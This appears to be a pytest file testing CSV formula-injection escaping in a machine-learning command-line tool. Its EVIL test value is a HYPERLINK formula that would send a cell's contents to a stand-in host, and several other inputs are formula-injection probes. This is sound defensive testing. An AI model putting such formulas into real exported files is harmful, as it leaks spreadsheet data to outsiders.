"""Text that spreadsheet programs take for formulas: as it is, or with an apostrophe on request."""

import numpy as np
import pytest

pd = pytest.importorskip("pandas")
for extra in ("typer", "rich", "skrub", "pyarrow", "skops"):
    pytest.importorskip(extra)

from vennforest.cli import main  # noqa: E402
from vennforest.tables.write import as_text  # noqa: E402

EVIL = '=HYPERLINK("http://x/?"&A1,"y")'


@pytest.mark.parametrize(
    "text", [EVIL, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
)
def test_formulas(text):
    assert as_text(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"])
def test_no_formulas(text):
    assert as_text(text) == text


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    rng = np.random.default_rng(0)
    x = rng.normal(size=60)
    frame = pd.DataFrame({"x": x, "@id": [EVIL, "-5", None, "plain"] * 15})
    frame["y"] = np.where(x + rng.normal(size=60) > 0, "=yes", "-no")
    frame.to_csv(folder / "d.csv", index=False)
    frame.to_parquet(folder / "d.parquet")
    command = ["fit", folder / "d.csv", "-t", "y", "--drop", "@id", "-o", folder / "m.skops"]
    assert run(*command, "--trees", 5, "--jobs", 1) == 0
    return folder


def run(*arguments):
    return main([str(argument) for argument in arguments])


@pytest.mark.parametrize("data", ["d.csv", "d.parquet"])
def test_on_request_an_output_holds_no_formula(folder, tmp_path, data):
    output = tmp_path / "p.csv"
    command = ["predict", folder / "m.skops", folder / data, "--id", "@id", "-o", output]
    assert run(*command) == 0
    plain = pd.read_csv(output, dtype=str)
    assert plain.columns[0] == "@id" and set(plain["label"]) <= {"=yes", "-no"}
    assert run(*command, "--no-formulas") == 0
    escaped = pd.read_csv(output, dtype=str)
    assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + EVIL, "-5", "", "plain"]
    assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
    pd.testing.assert_frame_equal(escaped.iloc[:, 2:], plain.iloc[:, 2:])  # numbers are the same


def test_other_formats_hold_text_as_it_is(folder, tmp_path, capsys):
    output = tmp_path / "p.parquet"
    command = ["predict", folder / "m.skops", folder / "d.csv", "-o", output]
    assert run(*command, "--no-formulas") == 2
    assert "--no-formulas is for outputs of text, as .csv is, got 'p.parquet'" in (
        capsys.readouterr().err
    )
